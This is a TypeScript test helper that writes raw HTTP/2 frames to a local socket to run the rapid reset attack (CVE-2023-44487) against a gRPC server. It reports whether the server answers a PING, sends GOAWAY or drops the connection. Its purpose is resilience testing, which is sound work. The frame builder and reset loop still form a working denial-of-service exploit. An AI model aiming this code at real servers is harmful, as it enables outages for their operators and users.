/**
 * HTTP/2 written frame by frame on a plain TCP socket, for the attacks that
 * node:http2's client cannot send (or that trip the client itself): the
 * rapid reset (CVE-2023-44487), HEADERS and RST_STREAM for many streams in
 * one write, without waiting for anything the server says.
 *
 * Why not node:http2: the fuzzer's old RST storm (request() then close() at
 * once, 50 times, on a shared session) sent the client's own nghttp2 session
 * into an endless loop of empty DATA frames inside `close()`, which grew the
 * process without bound and killed it with std::bad_alloc (Node 20.20; found
 * with gdb on the fuzz test's worker). The server was never the looping side,
 * but it shared the process with the client. Bytes on a socket have no client
 * state to get wrong.
 */
import { connect } from 'node:net';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const FrameType = { Headers: 1, RstStream: 3, Settings: 4, Ping: 6, GoAway: 7 } as const;
const END_HEADERS = 0x4;
const ACK = 0x1;
/** RST_STREAM error code CANCEL, what a client that gave up sends. */
const CANCEL = 0x8;

export function h2Frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK integer with an N-bit prefix (RFC 7541 §5.1), the prefix's other bits set to `flags`. */
function hpackInt(value: number, prefixBits: number, flags: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [flags | value];
  const out = [flags | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

/** A string literal without Huffman coding. */
function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  return Buffer.concat([Buffer.from(hpackInt(bytes.length, 7, 0)), bytes]);
}

/** Literal header field without indexing (§6.2.2), the name by static-table index or spelled out. */
function literal(name: number | string, value: string): Buffer {
  const head = typeof name === 'number' ? Buffer.from(hpackInt(name, 4, 0)) : Buffer.concat([Buffer.from([0]), hpackString(name)]);
  return Buffer.concat([head, hpackString(value)]);
}

/** A gRPC request's header block: static-table entries and literals only, so no dynamic table state is needed. */
export function grpcHeaderBlock(path: string, extra: Record<string, string> = {}): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
    literal(4, path), // :path
    literal(1, '127.0.0.1'), // :authority
    literal(31, 'application/grpc'), // content-type
    literal('te', 'trailers'),
    ...Object.entries(extra).map(([name, value]) => literal(name.toLowerCase(), value)),
  ]);
}

export interface RapidResetOutcome {
  /** What ended the wait: the server answered a PING sent after the resets, sent GOAWAY, closed the socket, or said nothing in time. */
  ended: 'ping-answered' | 'goaway' | 'closed' | 'timeout';
  /** GOAWAY's error code when one came (11: ENHANCE_YOUR_CALM). */
  goawayCode: number | null;
  /** Bytes the server sent back in all. */
  received: number;
}

/**
 * Opens `streams` streams on one new connection and resets each right after
 * its HEADERS, all in one write, then sends a PING and waits (up to
 * `timeoutMs`) for its ACK, a GOAWAY or the socket's end.
 */
export function rapidReset(port: number, options: { path: string; headers?: Record<string, string>; streams: number; timeoutMs: number }): Promise<RapidResetOutcome> {
  const block = grpcHeaderBlock(options.path, options.headers);
  const frames: Buffer[] = [PREFACE, h2Frame(FrameType.Settings, 0, 0)];
  for (let i = 0; i < options.streams; i++) {
    const id = 1 + 2 * i;
    frames.push(h2Frame(FrameType.Headers, END_HEADERS, id, block));
    const code = Buffer.alloc(4);
    code.writeUInt32BE(CANCEL);
    frames.push(h2Frame(FrameType.RstStream, 0, id, code));
  }
  const ping = Buffer.from('tenantd!', 'latin1');
  frames.push(h2Frame(FrameType.Ping, 0, 0, ping));
  return new Promise((resolve) => {
    const outcome: RapidResetOutcome = { ended: 'timeout', goawayCode: null, received: 0 };
    const socket = connect(port, '127.0.0.1');
    let pending = Buffer.alloc(0);
    const finish = (ended: RapidResetOutcome['ended']): void => {
      if (outcome.ended !== 'timeout' || socket.destroyed) return;
      outcome.ended = ended;
      socket.destroy();
    };
    let timedOut = false;
    const timer = setTimeout(() => {
      timedOut = true;
      socket.destroy();
    }, options.timeoutMs);
    socket.on('error', () => {});
    socket.on('close', () => {
      clearTimeout(timer);
      if (outcome.ended === 'timeout' && !timedOut) outcome.ended = 'closed';
      resolve(outcome);
    });
    socket.on('end', () => finish('closed'));
    socket.on('data', (chunk: Buffer) => {
      outcome.received += chunk.length;
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending.readUInt8(3);
        const flags = pending.readUInt8(4);
        const payload = pending.subarray(9, 9 + length);
        pending = pending.subarray(9 + length);
        if (type === FrameType.Settings && !(flags & ACK)) socket.write(h2Frame(FrameType.Settings, ACK, 0));
        if (type === FrameType.Ping && flags & ACK && payload.equals(ping)) finish('ping-answered');
        if (type === FrameType.GoAway && payload.length >= 8) {
          outcome.goawayCode = payload.readUInt32BE(4);
          finish('goaway');
        }
      }
    });
    socket.write(Buffer.concat(frames));
  });
}
